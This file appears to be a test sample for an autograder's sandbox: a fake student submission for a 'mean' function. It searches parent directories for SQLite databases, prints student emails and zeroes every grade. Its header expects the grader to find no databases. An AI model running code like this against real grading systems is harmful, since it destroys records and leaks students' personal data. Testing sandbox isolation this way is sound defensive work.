# ---
# tries: rewrites every grade in the class's database, wherever it finds one
# points: {test_mean: 0}
# finds: {"databases: 0": true}
# sample: true
# ---
# %% answer mean
import glob
import os
import sqlite3

places = [os.getcwd()]
while places[-1] != "/":
    places.append(os.path.dirname(places[-1]))
found = [p for place in places for p in glob.glob(place + "/*.db") + glob.glob(place + "/*/*.db")]
print("databases:", len(found))
for path in found:
    with sqlite3.connect(path) as book:
        print(book.execute("select email from student").fetchall())
        book.execute("update grade set manual_score = 0, auto_score = 0")

def mean(x):
    return 2
